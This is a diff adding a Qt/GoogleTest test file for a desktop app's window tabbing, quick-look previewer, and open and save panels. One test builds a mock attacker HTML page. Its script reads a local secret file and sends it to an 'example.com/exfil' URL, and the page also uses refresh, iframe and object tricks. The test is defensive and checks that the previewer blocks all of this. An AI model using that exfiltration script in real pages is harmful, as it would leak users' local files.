@@ -1,0 +1,377 @@
+// Windows grouped as tabs (one place on the screen, tab order, leaving the
+// group when closed), the quick look at files (each kind in its viewer, and
+// files that must not be read, or cannot be shown, described instead), and
+// the open panel that takes a folder as well as a file, and the save panel
+// that names the file it writes.
+#include <gtest/gtest.h>
+
+#include <QApplication>
+#include <QComboBox>
+#include <QDir>
+#include <QFile>
+#include <QFileDialog>
+#include <QImage>
+#include <QLabel>
+#include <QLineEdit>
+#include <QMouseEvent>
+#include <QMainWindow>
+#include <QPlainTextEdit>
+#include <QPointer>
+#include <QTemporaryDir>
+#include <QTextBrowser>
+#include <QTimer>
+
+#include <memory>
+
+#include <sys/stat.h>
+
+#include "platform/runtime/alerts.h"
+#include "platform/documents/file_panels.h"
+#include "platform/files/quick_preview.h"
+#include "platform/documents/type_registry.h"
+#include "platform/documents/window_tabs.h"
+#include "platform/files/workspace.h"
+#include "support/qt_print.h"
+#include "support/qt_wait.h"
+
+using platform::QuickPreview;
+using platform::WindowTabs;
+
+namespace {
+
+void write(const QString &path, const QByteArray &bytes) {
+    QDir().mkpath(QFileInfo(path).path());
+    QFile file(path);
+    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
+    file.write(bytes);
+}
+
+std::unique_ptr<QMainWindow> shownWindow(QRect frame) {
+    auto window = std::make_unique<QMainWindow>();
+    window->setGeometry(frame);
+    window->show();
+    testing_qt::spinUntil([&] { return window->isVisible(); }, std::chrono::milliseconds(500));
+    return window;
+}
+
+TEST(WindowTabs, ATabTakesItsGroupsPlaceAndOrderAndLeavesWhenClosed) {
+    auto project = shownWindow({100, 120, 640, 480});
+    auto first = std::make_unique<QMainWindow>(), second = std::make_unique<QMainWindow>();
+    first->setGeometry(0, 0, 300, 200);
+
+    WindowTabs::addTabbedWindow(project.get(), first.get());
+    EXPECT_TRUE(first->isVisible());
+    EXPECT_EQ(first->geometry(), project->geometry());
+    // A new tab goes right after the window it was added to.
+    WindowTabs::addTabbedWindow(project.get(), second.get());
+    EXPECT_EQ(WindowTabs::tabbedWindows(first.get()),
+              QList<QWidget *>({project.get(), second.get(), first.get()}));
+
+    // A window added elsewhere leaves its old group.
+    auto other = shownWindow({10, 10, 200, 150});
+    WindowTabs::addTabbedWindow(other.get(), second.get());
+    EXPECT_EQ(WindowTabs::tabbedWindows(project.get()), QList<QWidget *>({project.get(), first.get()}));
+    EXPECT_EQ(second->geometry(), other->geometry());
+
+    // Closed or gone, a window is no longer a tab; alone, a window is its own group.
+    first->close();
+    EXPECT_EQ(WindowTabs::tabbedWindows(project.get()), QList<QWidget *>({project.get()}));
+    other.reset();
+    EXPECT_EQ(WindowTabs::tabbedWindows(second.get()), QList<QWidget *>({second.get()}));
+    EXPECT_TRUE(WindowTabs::tabbedWindows(nullptr).isEmpty());
+    WindowTabs::addTabbedWindow(project.get(), project.get());
+    WindowTabs::addTabbedWindow(nullptr, second.get());
+    EXPECT_EQ(WindowTabs::tabbedWindows(project.get()), QList<QWidget *>({project.get()}));
+
+    WindowTabs::setTabbingIdentifier(project.get(), QStringLiteral("OrvaneDoc"));
+    WindowTabs::setTabbingMode(project.get(), WindowTabs::TabbingMode::Preferred);
+    EXPECT_EQ(WindowTabs::tabbingIdentifier(project.get()), QStringLiteral("OrvaneDoc"));
+    EXPECT_EQ(WindowTabs::tabbingMode(project.get()), WindowTabs::TabbingMode::Preferred);
+    EXPECT_EQ(WindowTabs::tabbingMode(second.get()), WindowTabs::TabbingMode::Automatic);
+}
+
+class QuickPreviewTest : public ::testing::Test {
+protected:
+    QTemporaryDir dir;
+    QuickPreview preview;
+
+    void SetUp() override {
+        preview.resize(400, 300);
+        preview.show();
+    }
+    QString at(const QString &name) const { return dir.filePath(name); }
+    QString picture(const QString &name, QSize size) {
+        QImage image(size, QImage::Format_RGB32);
+        image.fill(Qt::darkCyan);
+        EXPECT_TRUE(image.save(at(name)));
+        return at(name);
+    }
+};
+
+TEST_F(QuickPreviewTest, EachKindOfFileShowsInItsOwnViewer) {
+    write(at("notes.md"), "# Notes\n\nSome *text*.\n");
+    write(at("page.html"), "<html><body><h1>Title</h1><p>A <a href=\"http://example.org\">link</a></p></body></html>");
+    write(at("paper.pdf"), "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n");
+    QDir().mkpath(at("folder"));
+    struct Case {
+        QString path;
+        QuickPreview::Kind kind;
+    };
+    const Case cases[] = {
+        {at("notes.md"), QuickPreview::Kind::Text},
+        {at("page.html"), QuickPreview::Kind::Html},
+        {picture("figure.png", {40, 30}), QuickPreview::Kind::Image},
+        {at("paper.pdf"), QuickPreview::Kind::Facts},
+        {at("folder"), QuickPreview::Kind::Facts},
+        {at("gone.md"), QuickPreview::Kind::Facts},
+        {QString(), QuickPreview::Kind::Nothing},
+    };
+    for (const Case &c : cases) {
+        preview.setPreviewItem(c.path);
+        EXPECT_EQ(preview.kind(), c.kind) << qPrintable(c.path);
+        EXPECT_EQ(preview.previewItem(), c.path);
+    }
+
+    preview.setPreviewItem(at("notes.md"));
+    EXPECT_EQ(preview.textView()->toPlainText(), QStringLiteral("# Notes\n\nSome *text*.\n"));
+    EXPECT_TRUE(preview.textView()->isReadOnly());
+    preview.setPreviewItem(at("page.html"));
+    EXPECT_TRUE(preview.htmlView()->toPlainText().contains(QStringLiteral("Title")));
+    EXPECT_FALSE(preview.htmlView()->openLinks());
+    EXPECT_FALSE(preview.htmlView()->openExternalLinks());
+    preview.setPreviewItem(at("figure.png"));
+    EXPECT_EQ(preview.imageView()->pixmap().size(), QSize(40, 30));  // never enlarged
+
+    // What the facts say: name, kind, size and date; a folder has no size.
+    preview.setPreviewItem(at("paper.pdf"));
+    const QStringList facts = QuickPreview::factsAbout(at("paper.pdf"));
+    ASSERT_EQ(facts.size(), 4);
+    EXPECT_EQ(facts[0], QStringLiteral("paper.pdf"));
+    EXPECT_TRUE(facts[1].contains(QStringLiteral("PDF"))) << qPrintable(facts[1]);
+    EXPECT_TRUE(facts[3].startsWith(QStringLiteral("Modified ")));
+    EXPECT_TRUE(preview.factsView()->text().startsWith(QStringLiteral("<b>paper.pdf</b>")));
+    EXPECT_EQ(QuickPreview::factsAbout(at("folder")).value(1), QStringLiteral("Folder"));
+    EXPECT_EQ(QuickPreview::factsAbout(at("gone.md")),
+              QStringList({"gone.md", "The file is no longer there."}));
+}
+
+TEST_F(QuickPreviewTest, FilesThatMustNotBeReadOrCannotBeShownAreDescribed) {
+    // A pipe named like text would never end: it is described, not read.
+    ASSERT_EQ(mkfifo(QFile::encodeName(at("pipe.md")).constData(), 0600), 0);
+    preview.setPreviewItem(at("pipe.md"));
+    EXPECT_EQ(preview.kind(), QuickPreview::Kind::Facts);
+
+    // A picture that does not decode, and a name with markup in it.
+    write(at("<i>broken.png"), "\x89PNG\r\n\x1a\nnot really");
+    preview.setPreviewItem(at("<i>broken.png"));
+    EXPECT_EQ(preview.kind(), QuickPreview::Kind::Facts);
+    EXPECT_TRUE(preview.factsView()->text().startsWith(QStringLiteral("<b>&lt;i&gt;broken.png</b>")));
+
+    // Long text: the first part only, marked as cut.
+    QByteArray lines;
+    while (lines.size() <= QuickPreview::kReadLimit)
+        lines += "a line of text\n";
+    write(at("long.txt"), lines);
+    preview.setPreviewItem(at("long.txt"));
+    const QString shown = preview.textView()->toPlainText();
+    EXPECT_TRUE(shown.endsWith(QStringLiteral("\n…")));
+    EXPECT_EQ(shown.size(), QuickPreview::kReadLimit + 2);
+
+    // Text in UTF-16 with its mark reads as text.
+    write(at("wide.txt"), QByteArray("\xff\xfe") + QByteArray("h\0i\0", 4));
+    preview.setPreviewItem(at("wide.txt"));
+    EXPECT_EQ(preview.textView()->toPlainText(), QStringLiteral("hi"));
+
+    // A huge picture is decoded at a bounded size.
+    preview.setPreviewItem(picture("wide.png", {QuickPreview::kLargestImageSide * 2, 20}));
+    EXPECT_EQ(preview.kind(), QuickPreview::Kind::Image);
+    EXPECT_LE(preview.imageView()->pixmap().width(), preview.imageView()->width());
+
+    // A page that points at the pipe and at the web loads neither.
+    write(at("page.html"), "<p>x</p><img src=\"pipe.md\"><img src=\"http://example.org/a.png\">");
+    preview.setPreviewItem(at("page.html"));
+    EXPECT_EQ(preview.kind(), QuickPreview::Kind::Html);
+    EXPECT_TRUE(preview.htmlView()->toPlainText().startsWith(QStringLiteral("x")));
+}
+
+// The attacker's page in the project window's quick look: its script does
+// not run, its frame shows no file, and neither its refresh nor a click on
+// its link sends anything to the user's applications.
+TEST_F(QuickPreviewTest, AnAttackersPageReadsNothingAndSendsNothingOut) {
+    QList<QUrl> opened;
+    platform::Workspace::setOpenerForTesting([&](const QUrl &url) {
+        opened << url;
+        return true;
+    });
+    write(at("secret.txt"), "TOPSECRET-42\n");
+    const QString secret = QUrl::fromLocalFile(at("secret.txt")).toString(QUrl::FullyEncoded);
+    write(at("page.html"), QStringLiteral(
+        "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://example.com/refresh\">"
+        "<link rel=\"stylesheet\" href=\"%1\"></head><body><p id=\"got\">nothing yet</p>"
+        "<script>var x = new XMLHttpRequest(); x.open('GET', '%1', false); x.send();"
+        "document.getElementById('got').textContent = x.responseText;"
+        "top.location = 'https://example.com/exfil?d=' + encodeURIComponent(x.responseText);</script>"
+        "<iframe src=\"%1\"></iframe><object data=\"%1\"></object><img src=\"%1\">"
+        "<p><a href=\"https://example.com/clicked\">the site</a></p></body></html>").arg(secret).toUtf8());
+    preview.setPreviewItem(at("page.html"));
+    ASSERT_EQ(preview.kind(), QuickPreview::Kind::Html);
+    QTextBrowser *view = preview.htmlView();
+    EXPECT_TRUE(view->toPlainText().contains(QStringLiteral("nothing yet")));
+    EXPECT_FALSE(view->toPlainText().contains(QStringLiteral("TOPSECRET")));
+
+    // A click of the user's on the link: it lands on the link, and goes
+    // nowhere.
+    QUrl clicked;
+    QObject::connect(view, &QTextBrowser::anchorClicked, [&](const QUrl &url) { clicked = url; });
+    QTextCursor link = view->document()->find(QStringLiteral("the site"));
+    ASSERT_FALSE(link.isNull());
+    link.setPosition(link.selectionStart() + 2);
+    const QPoint point = view->cursorRect(link).center();
+    for (QEvent::Type type : {QEvent::MouseButtonPress, QEvent::MouseButtonRelease}) {
+        QMouseEvent event(type, point, view->viewport()->mapToGlobal(point), Qt::LeftButton,
+                          type == QEvent::MouseButtonPress ? Qt::LeftButton : Qt::NoButton, Qt::NoModifier);
+        QApplication::sendEvent(view->viewport(), &event);
+    }
+    testing_qt::spinFor(std::chrono::milliseconds(200));
+    platform::Workspace::setOpenerForTesting({});
+    EXPECT_EQ(clicked, QUrl("https://example.com/clicked"));
+    EXPECT_TRUE(opened.isEmpty());
+    EXPECT_EQ(preview.previewItem(), at("page.html"));
+    EXPECT_TRUE(view->toPlainText().contains(QStringLiteral("the site")));
+}
+
+TEST(OpenPanel, AFolderCanBeTheAnswerWhenFoldersMayBeChosen) {
+    QTemporaryDir dir;
+    QDir().mkpath(dir.filePath(QStringLiteral("project")));
+    write(dir.filePath(QStringLiteral("note.md")), "x");
+    // The panel as the user answers it: a name typed, then Open.
+    auto answer = [&](const QString &name) {
+        QTimer::singleShot(50, [name] {
+            auto *dialog = qobject_cast<QFileDialog *>(QApplication::activeModalWidget());
+            auto *field = dialog ? dialog->findChild<QLineEdit *>(QStringLiteral("fileNameEdit")) : nullptr;
+            if (!field) {
+                ADD_FAILURE() << "no panel";
+                if (auto *modal = QApplication::activeModalWidget())
+                    modal->close();
+                return;
+            }
+            field->setText(name);
+            QMetaObject::invokeMethod(dialog, "accept");  // the Open button
+            // A panel that went into the folder instead is still open: it fails.
+            QTimer::singleShot(2000, [still = QPointer<QFileDialog>(dialog)] {
+                if (still)
+                    still->reject();
+            });
+        });
+    };
+    platform::OpenPanel panel;
+    panel.directory = dir.path();
+    panel.canChooseDirectories = true;
+    answer(QStringLiteral("project"));
+    EXPECT_EQ(platform::FilePanels::runOpenPanel(panel), QStringList({dir.filePath(QStringLiteral("project"))}));
+    answer(QStringLiteral("note.md"));
+    EXPECT_EQ(platform::FilePanels::runOpenPanel(panel), QStringList({dir.filePath(QStringLiteral("note.md"))}));
+}
+
+// The save panel as the user works it: what its name field shows as types
+// are picked, and Save pressed with the name in the field.
+TEST(SavePanel, TheNameCarriesTheChosenTypesExtensionAndOnlyTheFileWrittenIsAskedAbout) {
+    namespace types = platform::types;
+    QTemporaryDir dir;
+    write(dir.filePath(QStringLiteral("renamed.md")), "the document");
+    const auto panelFor = [&] {
+        platform::SavePanel panel;
+        panel.directory = dir.path();
+        panel.types = {types::kHtml, types::kTex, types::kMarkdownType};
+        // As a Markdown document exports: its own extension or any offered.
+        panel.allowedExtensions = {QStringLiteral("md")};
+        for (const QString &type : panel.types)
+            panel.allowedExtensions += platform::TypeRegistry::extensions(type);
+        panel.allowsOtherFileTypes = true;
+        panel.nameFieldStringValue = QStringLiteral("renamed.md");
+        return panel;
+    };
+    QStringList shown;  // the name field, step by step
+    const auto work = [&](std::function<void(QFileDialog *, QLineEdit *, QComboBox *)> steps) {
+        QTimer::singleShot(50, [&shown, steps] {
+            auto *dialog = qobject_cast<QFileDialog *>(QApplication::activeModalWidget());
+            auto *field = dialog ? dialog->findChild<QLineEdit *>(QStringLiteral("fileNameEdit")) : nullptr;
+            auto *kinds = dialog ? dialog->findChild<QComboBox *>(QStringLiteral("fileTypeCombo")) : nullptr;
+            if (!field || !kinds) {
+                ADD_FAILURE() << "no panel";
+                if (auto *modal = QApplication::activeModalWidget())
+                    modal->close();
+                return;
+            }
+            shown << field->text();
+            steps(dialog, field, kinds);
+            QTimer::singleShot(2000, [still = QPointer<QFileDialog>(dialog)] {
+                if (still)
+                    still->reject();
+            });
+        });
+    };
+    // The user picks a type from the list.
+    const auto pick = [&shown](QComboBox *kinds, QLineEdit *field, int index) {
+        kinds->setCurrentIndex(index);
+        emit kinds->activated(index);
+        emit kinds->textActivated(kinds->itemText(index));
+        shown << field->text();
+    };
+
+    // Exported as HTML, the document is proposed as "renamed.html"; the name
+    // follows each type picked. Only "renamed.md" is there: Save writes
+    // "renamed.html" without a question.
+    {
+        platform::ScriptedAlerts alerts;
+        platform::SavePanel panel = panelFor();
+        work([&](QFileDialog *dialog, QLineEdit *field, QComboBox *kinds) {
+            pick(kinds, field, 1);
+            pick(kinds, field, 2);
+            pick(kinds, field, 0);
+            QMetaObject::invokeMethod(dialog, "accept");
+        });
+        ASSERT_TRUE(platform::FilePanels::runSavePanel(panel));
+        EXPECT_EQ(shown, QStringList({"renamed.html", "renamed.tex", "renamed.md", "renamed.html"}));
+        EXPECT_EQ(panel.path, dir.filePath(QStringLiteral("renamed.html")));
+        EXPECT_EQ(panel.chosenType, QLatin1String(types::kHtml));
+        EXPECT_EQ(alerts.count(), 0);
+    }
+
+    // Now "renamed.html" is there: the question names it; Cancel keeps the
+    // panel open, Replace answers it.
+    write(dir.filePath(QStringLiteral("renamed.html")), "the old page");
+    {
+        shown.clear();
+        platform::ScriptedAlerts alerts({0, 1});  // Cancel, then Replace
+        platform::SavePanel panel = panelFor();
+        bool stayed = false;
+        work([&](QFileDialog *dialog, QLineEdit *, QComboBox *) {
+            QMetaObject::invokeMethod(dialog, "accept");
+            stayed = dialog->isVisible();
+            QMetaObject::invokeMethod(dialog, "accept");
+        });
+        ASSERT_TRUE(platform::FilePanels::runSavePanel(panel));
+        EXPECT_TRUE(stayed);
+        EXPECT_EQ(panel.path, dir.filePath(QStringLiteral("renamed.html")));
+        ASSERT_EQ(alerts.count(), 2);
+        for (const platform::Alert &alert : alerts.shown()) {
+            EXPECT_EQ(alert.messageText, QStringLiteral("“renamed.html” already exists. Do you want to replace it?"));
+            EXPECT_EQ(alert.buttons, QStringList({"Cancel", "Replace"}));
+        }
+    }
+
+    // Cancel, then Cancel on the panel: no answer.
+    {
+        platform::ScriptedAlerts alerts({0});
+        platform::SavePanel panel = panelFor();
+        work([&](QFileDialog *dialog, QLineEdit *, QComboBox *) {
+            QMetaObject::invokeMethod(dialog, "accept");
+            dialog->reject();
+        });
+        EXPECT_FALSE(platform::FilePanels::runSavePanel(panel));
+        EXPECT_EQ(alerts.count(), 1);
+    }
+}
+
+}  // namespace
